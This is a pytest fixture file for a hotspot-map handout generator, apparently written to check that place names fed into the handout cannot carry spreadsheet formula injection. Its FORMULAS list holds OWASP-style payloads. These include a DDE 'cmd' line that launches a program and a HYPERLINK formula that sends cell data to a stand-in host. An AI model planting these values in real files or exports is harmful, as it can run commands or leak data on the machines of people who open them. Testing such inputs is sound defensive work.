"""A small map of hotspots, to be taken along."""

from collections.abc import Callable
from datetime import UTC, date, datetime

import numpy as np
import pytest

from geosafety import grid
from geosafety.handout import HotspotText, Surroundings, hotspot_handout
from geosafety.hotspots import detect
from geosafety.model.handout import Handout
from geosafety.model.hotspot import MethodCard
from geosafety.model.period import Period

AREA = grid.grow(grid.cells_of_points([17.008], [58.753], 9), rings=8)
# As OWASP and the spreadsheets' own manuals have them.
FORMULAS = [
    "=1+1",
    "+46 11 12",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '=HYPERLINK("http://example.org?x="&A1)',
    "\uff1d1+1",
]


def counts() -> np.ndarray:
    """Scatter reports and pile some up around one cell."""
    values = np.random.default_rng(1).poisson(0.4, AREA.size).astype(float)
    weights = grid.neighbours(AREA)
    values[weights.indices[weights.indptr[100] : weights.indptr[101]]] += 6
    return values


@pytest.fixture(scope="session")
def made() -> Callable[..., Handout]:
    """Give a function that makes the map of some counts ready."""
    found = {"usual": detect(counts(), AREA)}

    def make(
        values=None,
        title="Platser som sticker ut",
        language="sv",
        told=None,
        **options,
    ):
        here = found["usual"] if values is None else detect(values, AREA)
        given = {
            "period": Period(date(2024, 1, 1), date(2025, 12, 31)),
            "categories": ("graffiti",),
            "kind": "incident",
            "reports": 120,
            "unplaced": 12,
            "outside": 0,
            "resolution": 9,
            "cells": AREA.size,
            "test": here.test,
            "step": here.step,
            "draws": 0,
            "seed": 0,
            "version": "9.9",
            "data_until": datetime(2025, 12, 31, 20, tzinfo=UTC),
            "refusal": here.refusal,
            "senders": {"polisen": 100},
            "fingerprint": "0123456789abcdef",
        }
        card = MethodCard(**given | (told or {}))
        text = HotspotText(
            title=title, source="Rapporter till Lövköping", language=language
        )
        return hotspot_handout(here, card, text, **options)

    return make


@pytest.fixture(scope="session")
def handout(made: Callable[..., Handout]) -> Handout:
    """Give the usual map, whose places are named by somebody who means harm."""
    names = [FORMULAS[row % len(FORMULAS)] for row in range(AREA.size)]
    return made(around=Surroundings(places=names), only_drawn=True)
